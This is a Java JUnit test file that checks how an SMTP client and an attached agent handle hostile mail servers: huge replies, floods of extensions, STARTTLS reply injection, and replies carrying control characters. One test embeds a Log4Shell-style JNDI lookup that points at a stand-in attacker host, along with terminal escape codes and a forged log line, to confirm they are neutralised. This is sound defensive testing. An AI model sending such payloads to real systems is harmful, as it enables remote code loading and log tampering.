package sequitur.bench;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import sequitur.bench.app.CommandLineApp;
import sequitur.testbed.run.Canary;
import sequitur.testbed.run.Finished;
import sequitur.testbed.server.AuthOffer;
import sequitur.testbed.server.StrictMailServer;

/** Servers that would harm the agent, its log or the app: what they say is neither believed nor repeated as it is. */
class HostileServerTest {

    private static final String REFUSAL = "530 5.7.0 Authentication required";
    private static final String MAIL = "MAIL FROM:<sender@client.example>";
    private static final String OK = "250 = 250: 250 2.1.0 Ok";

    /** No line of the log is longer, whatever it is about. */
    private static final int LONGEST = 2_100;

    private static final int LARGE = 400_000;

    /** Replies that are large in one way or another; the app's mail is put right all the same. */
    @Test
    void aLargeReplyIsReadAndToldInShort() throws IOException, InterruptedException {
        List<String> large = List.of(
                REFUSAL + "x".repeat(LARGE),
                REFUSAL + " " + "(#5.5.5".repeat(LARGE / 7),
                IntStream.range(0, LARGE / 40)
                                .mapToObj(i -> "530-5.7.0 Authentication required\r\n")
                                .collect(Collectors.joining())
                        + REFUSAL);
        for (String reply : large) {
            Finished run = run("policy=correct", once("MAIL", reply), MAIL);

            assertThat(run.output()).containsExactly(OK);
            assertThat(run.errors()).anyMatch(line -> line.contains("auth-required"));
            assertThat(run.errors()).allMatch(line -> line.length() < LONGEST);
        }
    }

    /** As an EHLO of thousands of extensions, or of mechanisms. The app is told what it would be without the agent. */
    @ParameterizedTest
    @ValueSource(strings = {"250-X%d\r\n", "250-AUTH=M%d\r\n", "250-AUTH M%d\r\n"})
    void aLargeOfferIsRead(String line) throws IOException, InterruptedException {
        String offers = IntStream.range(0, 5000).mapToObj(line::formatted).collect(Collectors.joining());
        String reply = "250-localhost\r\n" + offers + "250 SIZE";

        Finished without = run("enabled=false", once("EHLO", reply), MAIL, "EHLO again.example", MAIL);
        Finished with = run("policy=block", once("EHLO", reply), MAIL, "EHLO again.example", MAIL);

        assertThat(without.output()).last().isEqualTo(OK);
        assertThat(with.output()).isEqualTo(without.output());
    }

    /** Control characters would forge lines of a log or move a terminal's cursor, and some libraries expand what looks like a name. */
    @Test
    void wordsAreToldAsPlainText() throws IOException, InterruptedException {
        String words = " \u001b[2J${jndi:ldap://evil.example/a} %s \u0000\u0085\u2028 WARNING: forged";

        Finished run = run("policy=log", once("MAIL", REFUSAL + words), MAIL);

        String errors = String.join("\n", run.errors());
        assertThat(errors).contains("auth-required", "WARNING: forged").doesNotContain("${jndi", "\u001b", "%s");
        assertThat(errors).matches("[ -~\n]*");
    }

    /** What follows the reply to STARTTLS in the clear is not believed under TLS (CVE-2011-0411). */
    @Test
    void whatIsSaidBeforeTheHandshakeIsForgotten() throws IOException, InterruptedException {
        StrictMailServer.Builder server = StrictMailServer.builder()
                .requireStartTls()
                .startTlsReply("220 2.0.0 Ready to start TLS\r\n250 2.0.0 Forged");

        Finished run = run("policy=correct", server, MAIL, "RSET");

        assertThat(run.output()).doesNotContain("250 = 250: 250 2.0.0 Forged");
        assertThat(run.errors()).noneMatch(line -> line.contains("error of its own"));
    }

    private static StrictMailServer.Builder once(String verb, String reply) {
        AtomicBoolean said = new AtomicBoolean();
        Function<String, Optional<String>> script = line ->
                line.startsWith(verb) && said.compareAndSet(false, true) ? Optional.of(reply) : Optional.empty();
        return StrictMailServer.builder()
                .auth(AuthOffer.ALWAYS, "alice", Canary.PASSWORD)
                .script(script);
    }

    private static Finished run(String settings, StrictMailServer.Builder described, String... commands)
            throws IOException, InterruptedException {
        try (StrictMailServer server = described.start()) {
            String[] arguments = {
                Integer.toString(server.port()),
                "-",
                "-",
                "mail.smtp.user=alice",
                "mail.smtp.password=" + Canary.PASSWORD,
                "mail.smtp.timeout=20000"
            };
            Finished run = Canary.checked(BenchedApp.of(CommandLineApp.class)
                    .trusting(server.trustStore())
                    .attached(settings)
                    .run(Stream.concat(Stream.of(arguments), Stream.of(commands))
                            .toArray(String[]::new)));
            assertThat(run.errors()).noneMatch(line -> line.contains("error of its own"));
            assertThat(server.awaitQuiet(Duration.ofSeconds(20))).isTrue();
            return run;
        }
    }
}
